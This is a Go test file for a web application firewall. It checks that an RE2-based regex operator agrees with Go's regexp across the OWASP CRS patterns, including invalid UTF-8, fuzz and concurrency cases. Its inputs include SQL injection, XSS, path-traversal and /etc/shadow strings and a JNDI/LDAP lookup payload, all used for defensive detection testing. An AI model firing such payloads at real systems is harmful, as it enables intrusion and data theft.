package waf

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/google/go-cmp/cmp"
)

// rxReference is what Coraza's own @rx answers for an operator compiled from
// data (flags included), given matched = re.MatchString(value): Go's
// regexp, and when the rule captures, groups 0-8 with "" for a group that
// took no part in the match.
func rxReference(re *regexp.Regexp, value string, matched, capturing bool) (bool, map[int]string) {
	caps := map[int]string{}
	if !capturing || !matched {
		return matched, caps
	}
	m := re.FindStringSubmatchIndex(value)
	if m == nil {
		return false, caps
	}
	for i := 0; i < len(m)/2 && i < 9; i++ {
		if m[2*i] >= 0 {
			caps[i] = value[m[2*i]:m[2*i+1]]
		} else {
			caps[i] = ""
		}
	}
	return true, caps
}

// rxOperatorDiff evaluates op as a capturing and a non-capturing rule would,
// and describes any difference from Go's regexp (re, which answered
// matched for value); "" means identical.
func rxOperatorDiff(op plugintypes.Operator, re *regexp.Regexp, value string, matched bool) string {
	for _, capturing := range []bool{false, true} {
		tx := &captureTx{capturing: capturing, got: map[int]string{}}
		got := op.Evaluate(tx, value)
		want, wantCaps := rxReference(re, value, matched, capturing)
		if got != want {
			return fmt.Sprintf("capturing=%v: Evaluate = %v, Go's regexp = %v", capturing, got, want)
		}
		if diff := cmp.Diff(tx.got, wantCaps); diff != "" {
			return fmt.Sprintf("capturing=%v: captures (-got +want):\n%s", capturing, diff)
		}
	}
	return ""
}

// checkEvaluate compiles pattern as @rx and checks one evaluation's answer
// and TX captures.
func checkEvaluate(t *testing.T, pattern, value string, capturing, want bool, wantCaps map[int]string) {
	t.Helper()
	op, err := newRxOperator(plugintypes.OperatorOptions{Arguments: pattern})
	if err != nil {
		t.Fatal(err)
	}
	tx := &captureTx{capturing: capturing, got: map[int]string{}}
	if got := op.Evaluate(tx, value); got != want {
		t.Errorf("Evaluate(%q) = %v, want %v", value, got, want)
	}
	if diff := cmp.Diff(tx.got, wantCaps); diff != "" {
		t.Errorf("captures (-got +want):\n%s", diff)
	}
}

// hostileVariants are the inputs where RE2 and Go's regexp are known to part
// or that stress the operator: invalid UTF-8 before and inside a payload,
// NUL bytes, the non-ASCII case folds of k and s, and long values.
func hostileVariants(v string) []string {
	mid := len(v) / 2
	return []string{
		"\xff" + v,
		v[:mid] + "\xc0" + v[mid:],
		v + "\xed\xa0\x80", // an encoded surrogate: invalid in UTF-8
		"\x00" + v,
		v[:mid] + "\x00" + v[mid:],
		strings.ReplaceAll(strings.ReplaceAll(v, "s", "\u017f"), "k", "\u212a"),
		strings.ToUpper(v),
	}
}

// longInputs are values of 64 KiB and more, with the payload at the end
// (after RE2's and Go's engines have run through the padding) and in the
// middle of invalid bytes.
func longInputs() []string {
	pad := strings.Repeat("lorem ipsum dolor sit amet ", 2500)
	return []string{
		pad + "' union select password from users --",
		pad + "<script>alert(1)</script>",
		strings.Repeat("\xfe", 1000) + pad + "/etc/passwd",
		pad + "\xff" + "cat /etc/shadow",
		strings.Repeat("a", 70000),
		strings.Repeat("(", 5000) + "select",
	}
}

// TestRxOperatorMatchesGoRegexpCRS is the differential proof for the RE2
// engine: for every @rx pattern of the embedded CRS (all paranoia levels) and
// every input, the operator's match and captures equal Go's regexp's, and so
// do RE2's own answers wherever the operator lets RE2 decide (the filter
// hides most values from RE2, so RE2 is also checked without it).
func TestRxOperatorMatchesGoRegexpCRS(t *testing.T) {
	patterns := crsPatterns(t)
	inputs := differentialInputs(t)
	var extra []string
	for i, v := range inputs {
		// Every seventh value in hostile forms keeps the run within minutes.
		if i%7 == 0 {
			extra = append(extra, hostileVariants(v)...)
		}
	}
	inputs = append(append(inputs, extra...), longInputs()...)

	var compiled, re2Runs, invalid, re2Failed, matches int
	for _, p := range patterns {
		data := rxFlags + p
		if matchesArbitraryBytes(data) {
			continue // the byte matcher is Coraza's own, unchanged
		}
		opAny, err := newRxOperator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			t.Fatal(err)
		}
		op := opAny.(*rxOperator)
		if op.re2 == nil {
			t.Logf("RE2 rejected %q; Go's regexp serves it", p)
			continue
		}
		compiled++
		re := regexp.MustCompile(data)
		for _, v := range inputs {
			want := re.MatchString(v)
			if want {
				matches++
			}
			if got, ok := op.matchRE2(v); ok {
				re2Runs++
				if got != want {
					t.Errorf("RE2 disagrees for %q on %.120q: RE2 %v, Go %v", p, v, got, want)
					continue
				}
			} else if !utf8.ValidString(v) {
				invalid++
			} else {
				re2Failed++
			}
			if d := rxOperatorDiff(op, re, v, want); d != "" {
				t.Errorf("%q on %.120q: %s", p, v, d)
			}
		}
	}
	if compiled == 0 {
		t.Fatal("RE2 compiled no CRS pattern")
	}
	t.Logf("%d CRS @rx patterns, %d compiled by RE2; %d inputs; %d RE2 searches agreed with Go (%d matches); left to Go: %d invalid UTF-8, %d RE2 failures",
		len(patterns), compiled, len(inputs), re2Runs, matches, invalid, re2Failed)
}

func TestRxOperatorRE2Fallback(t *testing.T) {
	const pattern = `(?i)(union\s+select|<script[^>]*>)`
	tests := []struct {
		name, value string
		capturing   bool
		want        bool
		wantCaps    map[int]string
	}{
		// RE2's [^>] and . do not match an invalid byte, Go's regexp reads
		// it as U+FFFD: these payloads are only found because such values
		// go to Go's regexp (TestRE2InvalidUTF8 shows RE2 alone missing them).
		{"invalid byte inside the payload", "<script \xff>", true, true,
			map[int]string{0: "<script \xff>", 1: "<script \xff>"}},
		{"truncated sequence inside the payload", "<SCRIPT a=\xc3>", false, true, map[int]string{}},
		{"NUL is valid UTF-8 and stays with RE2", "\x00UNION  SELECT", true, true,
			map[int]string{0: "UNION  SELECT", 1: "UNION  SELECT"}},
		{"long s folds to s, in both engines", "<\u017fcript>", false, true, map[int]string{}},
		{"benign", "a union of sets", true, false, map[int]string{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkEvaluate(t, pattern, tt.value, tt.capturing, tt.want, tt.wantCaps)
		})
	}
}

// TestRE2InvalidUTF8 pins why invalid UTF-8 never reaches RE2: on such a
// value RE2 alone misses a match Go's regexp (and so Coraza) finds. If a
// go-re2 upgrade changes this, the guard in matchRE2 stays harmless.
func TestRE2InvalidUTF8(t *testing.T) {
	set := compileRE2(rxFlags+`<script[^>]*>`, re2MaxMem)
	if set == nil {
		t.Fatal("RE2 rejected the pattern")
	}
	m, err := set.FindAllStringWithError("<script \xff>", 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(m) != 0 {
		t.Logf("RE2 now matches across an invalid byte; the guard is no longer needed for this case")
	}
	if !regexp.MustCompile(rxFlags + `<script[^>]*>`).MatchString("<script \xff>") {
		t.Error("Go's regexp no longer matches across an invalid byte")
	}
}

// TestRxOperatorRE2Budget checks that RE2's memory bound never changes a
// result: a pattern whose program does not fit is served by Go's regexp
// (not dropped), and a DFA cache far too small for the value only makes
// RE2 slower.
func TestRxOperatorRE2Budget(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	ab := make([]byte, 100000)
	for i := range ab {
		ab[i] = "ab"[rng.IntN(2)]
	}
	tests := []struct {
		name, pattern string
		maxMem        int
		wantRE2       bool // RE2 compiled the pattern under this budget
		values        []string
	}{
		{"program over the budget", `(?i)(?:[a-z]{1,8}\d{0,3}){1,20}x\b|select.{0,40}from`, 64 << 10, false,
			[]string{"select * from t", "abc1x", "nothing"}},
		{"program fits, small DFA cache", `(?i)(?:[a-z]{1,8}\d{0,3}){1,20}x\b|select.{0,40}from`, 200 << 10, true,
			[]string{strings.Repeat("ab1c2d3", 3000) + " selecT 1 FROM t", strings.Repeat("zq", 20000)}},
		// Up to 2^20 DFA states for random a/b: the cache is reset many
		// times over during one search.
		{"DFA state explosion", `a[ab]{20}c`, 8 << 10, true,
			[]string{string(ab), string(ab) + "c", string(ab[:30]) + "c"}},
		{"default budget", `a[ab]{20}c`, re2MaxMem, true, []string{string(ab) + "c"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := rxFlags + tt.pattern
			re := regexp.MustCompile(data)
			op := &rxOperator{re: &lazyRegexp{expr: data}, re2: compileRE2(data, tt.maxMem)}
			if got := op.re2 != nil; got != tt.wantRE2 {
				t.Fatalf("RE2 compiled: %v, want %v", got, tt.wantRE2)
			}
			for _, v := range tt.values {
				if d := rxOperatorDiff(op, re, v, re.MatchString(v)); d != "" {
					t.Errorf("%.60q: %s", v, d)
				}
			}
		})
	}
}

// FuzzRxOperatorRE2 compares the operator with Go's regexp for a random CRS
// pattern and a random value, capturing and not.
func FuzzRxOperatorRE2(f *testing.F) {
	type compiled struct {
		op *rxOperator
		re *regexp.Regexp
	}
	var cs []compiled
	for _, p := range crsPatterns(f) {
		data := rxFlags + p
		if matchesArbitraryBytes(data) {
			continue
		}
		op, err := newRxOperator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			f.Fatal(err)
		}
		cs = append(cs, compiled{op.(*rxOperator), regexp.MustCompile(data)})
	}
	if len(cs) == 0 {
		f.Fatal("no CRS patterns")
	}
	f.Add(uint16(0), "' union select 1 --")
	f.Add(uint16(3), "\xff<script>alert(1)</script>")
	f.Add(uint16(11), "/etc/passwd\x00.png")
	f.Add(uint16(29), "<\u017fcript \u212aey=1>")
	f.Add(uint16(57), "a\xc3(sleep(5))")
	f.Add(uint16(101), "${jndi:ldap://x/a}\xed\xa0\x80")
	f.Fuzz(func(t *testing.T, i uint16, v string) {
		c := cs[int(i)%len(cs)]
		want := c.re.MatchString(v)
		if got, ok := c.op.matchRE2(v); ok && got != want {
			t.Fatalf("RE2 disagrees for %q on %q: RE2 %v", c.re, v, got)
		}
		if d := rxOperatorDiff(c.op, c.re, v, want); d != "" {
			t.Fatalf("%q on %q: %s", c.re, v, d)
		}
	})
}

// TestRxOperatorRE2Concurrent: the gateway evaluates one compiled operator
// from every request's goroutine. go-re2 hands each goroutine its own RE2
// instance from a pool over one shared memory; answers must not depend on
// what the other goroutines match at the same time (run with -race too).
func TestRxOperatorRE2Concurrent(t *testing.T) {
	patterns := []string{
		`(?i)union[\s\S]*?select`,
		`<script[^>]*>[\s\S]*?`,
		`(?:/etc/passwd|/etc/shadow)`,
	}
	values := []string{
		"id=1 UNION ALL SELECT password FROM users",
		"q=<script src=//x.test>alert(1)</script>",
		"file=../../etc/passwd",
		"plain text about unions and selections",
		strings.Repeat("lorem ipsum ", 500) + "union select 1",
		"caf\xe9 <script>", // invalid UTF-8: Go's regexp decides
	}
	type opRe struct {
		op plugintypes.Operator
		re *regexp.Regexp
	}
	var ops []opRe
	for _, p := range patterns {
		op, err := newRxOperator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			t.Fatal(err)
		}
		if op.(*rxOperator).re2 == nil {
			t.Fatalf("RE2 rejected %q", p)
		}
		ops = append(ops, opRe{op, regexp.MustCompile(rxFlags + p)})
	}
	const goroutines, rounds = 8, 200
	errs := make(chan string, goroutines)
	var wg sync.WaitGroup
	for g := range goroutines {
		wg.Go(func() {
			for i := range rounds {
				o := ops[(g+i)%len(ops)]
				v := values[(g*7+i)%len(values)]
				if d := rxOperatorDiff(o.op, o.re, v, o.re.MatchString(v)); d != "" {
					errs <- fmt.Sprintf("%q on %.60q: %s", o.re, v, d)
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}
